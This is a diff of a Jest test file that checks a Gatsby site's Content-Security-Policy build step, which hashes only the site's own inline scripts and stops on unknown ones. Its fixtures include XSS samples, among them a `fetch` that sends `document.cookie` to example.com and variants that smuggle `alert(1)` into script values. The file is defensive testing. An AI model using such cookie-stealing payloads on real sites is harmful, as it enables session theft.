@@ -1,9 +1,14 @@
 /**
  * The HTTP headers of src/node/postbuild/netlify-headers.ts, the one place they are
  * defined: the policies, the rules written into public/_headers and the checks
- * that stop a build whose rules Netlify would serve wrongly. How Netlify's own
- * runtime serves them is the deploy rehearsal's (__tests__/netlify/).
+ * that stop a build whose rules Netlify would serve wrongly, among them an
+ * inline script the site does not write (src/node/postbuild/site-scripts.ts).
+ * How Netlify's own runtime serves them is the deploy rehearsal's
+ * (__tests__/netlify/).
  */
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
 import {
   ADMIN_CSP,
   ADMIN_RULE_PATH,
@@ -20,13 +25,20 @@ import {
   parseCsp,
   parseHeadersSection,
   rulePathsOf,
+  scriptHashes,
   SECTION_END,
   SECTION_START,
   SITE_CSP,
   SITE_POLICY,
   urlPathOf,
+  writeHeadersFile,
   type NetlifyHeaderRule,
 } from "../../src/node/postbuild/netlify-headers";
+import { recogniseScript, SITE_SCRIPTS, type InlineScript } from "../../src/node/postbuild/site-scripts";
+import { bundleLoader } from "../../src/node/postbuild/built-html";
+import { REVEAL_SCRIPT } from "../../src/browser/reveal-script";
+import { consentDefaultsScript } from "../../src/lib/consent/consent-mode";
+import { gtagConfigScript } from "../../src/lib/consent/gtag-tags";
 import { robotsTxt } from "../../src/node/postbuild/robots";
 
 /** The only hosts the public pages may ever contact: Google's tag and Analytics (after consent), the video player. */
@@ -48,7 +60,56 @@ const html = [
   "</head></html>",
 ].join("");
 
-const page = (pagePath: string) => `<html><script>window.pagePath="${pagePath}";</script></html>`;
+/** Gatsby's page-path script (node_modules/gatsby/cache-dir/static-entry.js), as it writes it. */
+const pagePathScript = (pagePath: string) => `/*<![CDATA[*/window.pagePath=${JSON.stringify(pagePath)};/*]]>*/`;
+const page = (pagePath: string) =>
+  `<html><body><main></main><script id="gatsby-script-loader">${pagePathScript(pagePath)}</script></body></html>`;
+
+/** The measurement options of gatsby-config.ts, with a test ID. */
+const MEASURED = {
+  measurementId: "G-TEST1234",
+  gtagConfig: { anonymize_ip: true, allow_google_signals: false, allow_ad_personalization_signals: false },
+  respectDNT: true,
+};
+const INERT = ' type="text/plain" data-consent-category="analytics"';
+const CHUNK_MAP = { app: ["/app-84ddcd9b6fa20730ba74.js"], "contact-form": ["/contact-form-9d0e260c2532f9f59ff6.js"] };
+const BUNDLES = ["/webpack-runtime-2ad0024ad7bc5e6065cd.js", "/framework-7c0fe493eac3ac1ffc0b.js", "/app-84ddcd9b.js"];
+
+/** Every kind of inline script a built page of /accueil holds, with analytics on, as the build writes them. */
+const SITE_WRITES: Record<string, InlineScript> = {
+  reveal: { attributes: "", text: REVEAL_SCRIPT },
+  "consent defaults": { attributes: "", text: consentDefaultsScript() },
+  "Google tag, inert until consent": {
+    attributes: `${INERT} data-src="https://www.googletagmanager.com/gtag/js?id=G-TEST1234"`,
+    text: "",
+  },
+  "Google tag configuration, inert until consent": { attributes: INERT, text: gtagConfigScript(MEASURED) },
+  "Gatsby page path": { attributes: ' id="gatsby-script-loader"', text: pagePathScript("/accueil") },
+  "Gatsby chunk mapping": {
+    attributes: '\n            id="gatsby-chunk-mapping"\n          ',
+    text: `\n            window.___chunkMapping=${JSON.stringify(JSON.stringify(CHUNK_MAP))};\n          `,
+  },
+  "Gatsby webpack compilation hash": {
+    attributes: "",
+    text: 'window.___webpackCompilationHash="2cd2f60e887060c90990";',
+  },
+  "bundle loader": { attributes: "", text: bundleLoader(BUNDLES) },
+};
+const tag = ({ attributes, text }: InlineScript) => `<script${attributes}>${text}</script>`;
+const accueil = [
+  "<!DOCTYPE html><html><head>",
+  tag(SITE_WRITES.reveal),
+  tag(SITE_WRITES["consent defaults"]),
+  '<script type="application/ld+json" data-gatsby-head="true">{"@type":"Organization"}</script>',
+  "</head><body><main><h1>Accueil</h1></main>",
+  ...Object.entries(SITE_WRITES)
+    .filter(([name]) => !["reveal", "consent defaults"].includes(name))
+    .map(([, script]) => tag(script)),
+  "</body></html>",
+].join("");
+/** What a writer's Markdown with raw HTML would have put in a project page. */
+const withWritersScript = (html: string, script = "<script>alert(1)</script>") =>
+  html.replace("</main>", `<p>Bonjour</p>${script}</main>`);
 
 describe("the public pages' Content-Security-Policy", () => {
   it("forbids framing the site and plugins, and pins base and form targets", () => {
@@ -99,13 +160,13 @@ describe("per-page Content-Security-Policy", () => {
 
   it("adds those hashes to script-src, never 'unsafe-inline', and keeps every other directive", () => {
     const directives = parseCsp(
-      pageCsp("default-src 'self'; script-src 'self' 'unsafe-inline'; frame-ancestors 'none'", html),
+      pageCsp("default-src 'self'; script-src 'self' 'unsafe-inline'; frame-ancestors 'none'", [
+        { file: "accueil/index.html", html: accueil },
+      ]),
     );
     expect(directives.get("script-src")).toEqual([
       "'self'",
-      cspHash('window.pagePath="/accueil";'),
-      cspHash("console.log(1)"),
-      cspHash('gtag("config","G-X")'),
+      ...inlineScripts(accueil).map((script) => cspHash(script.text)),
     ]);
     expect(directives.get("frame-ancestors")).toEqual(["'none'"]);
   });
@@ -127,6 +188,155 @@ describe("per-page Content-Security-Policy", () => {
     ]);
     expect(rulePathsOf("index.html")).toEqual(["/", "/index.html"]);
     expect(rulePathsOf("404.html")).toEqual(["/404.html"]);
+  });
+});
+
+describe("only the inline scripts the site writes are allowed (src/node/postbuild/site-scripts.ts)", () => {
+  const at = (pagePath: string) => ({ path: pagePath });
+
+  it.each(Object.entries(SITE_WRITES))("recognises %s, and hashes it", (name, script) => {
+    expect(recogniseScript(script, at("/accueil"))?.name).toBe(name);
+    expect(scriptHashes([{ file: "accueil/index.html", html: accueil }])).toContain(cspHash(script.text));
+  });
+
+  it("knows where each script comes from, and every entry is one the build writes", () => {
+    expect(SITE_SCRIPTS.map((known) => known.name).sort()).toEqual(Object.keys(SITE_WRITES).sort());
+    for (const known of SITE_SCRIPTS) expect(known.origin).toMatch(/\.(tsx?|js)\b/);
+  });
+
+  it("hashes each script of a page once, and no data block", () => {
+    const hashes = scriptHashes([{ file: "accueil/index.html", html: accueil }]);
+    expect(hashes).toEqual(
+      Object.values(SITE_WRITES)
+        .map((script) => cspHash(script.text))
+        .sort((a, b) => hashes.indexOf(a) - hashes.indexOf(b)),
+    );
+    expect(hashes).toHaveLength(Object.keys(SITE_WRITES).length);
+    expect(hashes).not.toContain(cspHash('{"@type":"Organization"}'));
+  });
+
+  it("stops on an inline script the site does not write, naming the page's file and the script", () => {
+    const pages = [
+      {
+        file: "projet/kids-care/index.html",
+        html: withWritersScript(accueil.replace('"/accueil"', '"/projet/kids-care"')),
+      },
+    ];
+    expect(() => pageCsp(SITE_POLICY, pages)).toThrow(
+      "public/projet/kids-care/index.html\u00a0: script en ligne inconnu du site («\u00a0alert(1)\u00a0»), la construction s’arrête\u00a0:",
+    );
+    expect(() => headerRules({ pages, publicSite: true })).toThrow(/src\/node\/postbuild\/site-scripts\.ts/);
+  });
+
+  it("names every page holding one, and shortens a long script", () => {
+    const long = `<script>fetch("https://example.com/?c="+document.cookie)${";void 0".repeat(20)}</script>`;
+    const pages = [
+      { file: "accueil/index.html", html: withWritersScript(accueil) },
+      { file: "cgu/index.html", html: withWritersScript(page("/cgu"), long) },
+      { file: "cgv/index.html", html: page("/cgv") },
+    ];
+    let message = "";
+    try {
+      headerRules({ pages, publicSite: true });
+    } catch (error) {
+      message = (error as Error).message;
+    }
+    expect(message).toMatch(
+      /^public\/accueil\/index\.html\u00a0: script en ligne inconnu du site \(«\u00a0alert\(1\)\u00a0»\)/,
+    );
+    expect(message).toContain(
+      'public/cgu/index.html\u00a0: script en ligne inconnu du site («\u00a0fetch("https://example.com/?c="+document.cookie);void 0;void…\u00a0»)',
+    );
+    expect(message).not.toContain("public/cgv/");
+  });
+
+  it("gives a writer's script no hash: the page's known scripts are still recognised, it is not, nothing is written", () => {
+    const html = withWritersScript(accueil);
+    const scripts = inlineScripts(html);
+    const writers = scripts.filter((script) => !recogniseScript(script, at("/accueil")));
+    expect(writers).toEqual([{ attributes: "", text: "alert(1)" }]);
+    expect(scripts.filter((script) => recogniseScript(script, at("/accueil")))).toHaveLength(
+      Object.keys(SITE_WRITES).length,
+    );
+
+    const publicDir = fs.mkdtempSync(path.join(os.tmpdir(), "voltis-headers-"));
+    try {
+      fs.mkdirSync(path.join(publicDir, "accueil"));
+      fs.writeFileSync(path.join(publicDir, "accueil", "index.html"), html);
+      fs.writeFileSync(
+        path.join(publicDir, "_headers"),
+        "# gatsby-adapter-netlify start\n# gatsby-adapter-netlify end\n",
+      );
+      expect(() => writeHeadersFile({ publicDir, publicSite: true })).toThrow(
+        /public\/accueil\/index\.html\u00a0: script en ligne inconnu du site/,
+      );
+      const headers = fs.readFileSync(path.join(publicDir, "_headers"), "utf8");
+      expect(headers).not.toContain(SECTION_START);
+      expect(headers).not.toContain(cspHash("alert(1)"));
+      // Without it, the same page gets its policy.
+      fs.writeFileSync(path.join(publicDir, "accueil", "index.html"), accueil);
+      expect(writeHeadersFile({ publicDir, publicSite: true })).toBe(1);
+      expect(fs.readFileSync(path.join(publicDir, "_headers"), "utf8")).toContain(cspHash(REVEAL_SCRIPT));
+    } finally {
+      fs.rmSync(publicDir, { recursive: true, force: true });
+    }
+  });
+
+  it("an inert analytics script is hashed only when it is the site's", () => {
+    const inertAlert = `<script${INERT}>alert(1)</script>`;
+    expect(inlineScripts(inertAlert)).toHaveLength(1);
+    expect(() => scriptHashes([{ file: "accueil/index.html", html: withWritersScript(accueil, inertAlert) }])).toThrow(
+      /script en ligne inconnu du site \(«\u00a0alert\(1\)\u00a0»\)/,
+    );
+  });
+
+  const loader = SITE_WRITES["bundle loader"].text;
+  const config = SITE_WRITES["Google tag configuration, inert until consent"];
+  const chunks = SITE_WRITES["Gatsby chunk mapping"];
+  it.each<[string, InlineScript]>([
+    ["the reveal script, changed", { attributes: "", text: REVEAL_SCRIPT.replace("8%", "9%") }],
+    ["the reveal script, with code after it", { attributes: "", text: `${REVEAL_SCRIPT}alert(1)` }],
+    ["the reveal script as a module", { attributes: ' type="module"', text: REVEAL_SCRIPT }],
+    ["a loader of another site's script", { attributes: "", text: bundleLoader(["https://example.com/x.js"]) }],
+    ["a loader of nothing", { attributes: "", text: bundleLoader([]) }],
+    ["a loader with code added", { attributes: "", text: loader.replace("l.d=1;", "l.d=1;alert(1);") }],
+    ["the consent defaults, changed", { attributes: "", text: consentDefaultsScript().replace("denied", "granted") }],
+    ["the consent defaults, inert", { attributes: INERT, text: consentDefaultsScript() }],
+    ["Google's configuration, not inert", { attributes: "", text: config.text }],
+    [
+      "Google's configuration with code added",
+      { ...config, text: config.text.replace('window.gtag("js"', 'alert(1);window.gtag("js"') },
+    ],
+    [
+      "Google's configuration with code in a value",
+      { ...config, text: gtagConfigScript({ ...MEASURED, gtagConfig: { a: 1 } }).replace('{"a":1,', '{"a":alert(1),') },
+    ],
+    [
+      "an inert script of another host",
+      { attributes: `${INERT} data-src="https://example.com/gtag/js?id=G-TEST1234"`, text: "" },
+    ],
+    ["Google's tag, inert, with text", { ...SITE_WRITES["Google tag, inert until consent"], text: "alert(1)" }],
+    ["another page's path", { attributes: ' id="gatsby-script-loader"', text: pagePathScript("/cgu") }],
+    [
+      "the page's path with code added",
+      { attributes: ' id="gatsby-script-loader"', text: `${pagePathScript("/accueil")}alert(1)` },
+    ],
+    ["the page's path without Gatsby's id", { attributes: "", text: pagePathScript("/accueil") }],
+    ["a chunk mapping with code added", { ...chunks, text: chunks.text.replace(";\n", ";alert(1);\n") }],
+    [
+      "a chunk mapping of something else",
+      { ...chunks, text: chunks.text.replace("/app-84ddcd9b6fa20730ba74.js", "https://example.com/x.js") },
+    ],
+    [
+      "a compilation hash with code added",
+      { attributes: "", text: 'window.___webpackCompilationHash="2cd2f60e887060c90990";alert(1);' },
+    ],
+    ["a compilation hash that is not one", { attributes: "", text: 'window.___webpackCompilationHash="alert(1)";' }],
+    ["a writer's script", { attributes: "", text: "alert(1)" }],
+  ])("does not take %s for the site's", (_what, script) => {
+    // A near miss, not one of the scripts the site writes.
+    expect(Object.values(SITE_WRITES)).not.toContainEqual(script);
+    expect(recogniseScript(script, at("/accueil"))).toBeUndefined();
   });
 });
 
@@ -169,14 +379,14 @@ describe("the rules of public/_headers", () => {
   it("gives each page its own policy under its address and its files", () => {
     for (const requestPath of ["/accueil", "/accueil/", "/accueil/index.html", "/accueil.html"]) {
       const policy = parseCsp(headersForPath(rules, requestPath)["Content-Security-Policy"] ?? "");
-      expect(policy.get("script-src")).toContain(cspHash('window.pagePath="/accueil";'));
+      expect(policy.get("script-src")).toContain(cspHash(pagePathScript("/accueil")));
     }
   });
 
   it("allows both 404 pages' scripts where the adapter may serve either of them", () => {
     const policy = parseCsp(headersForPath(rules, "/404.html")["Content-Security-Policy"] ?? "");
     expect(policy.get("script-src")).toEqual(
-      expect.arrayContaining([cspHash('window.pagePath="/404.html";'), cspHash('window.pagePath="/404";')]),
+      expect.arrayContaining([cspHash(pagePathScript("/404.html")), cspHash(pagePathScript("/404"))]),
     );
   });
 
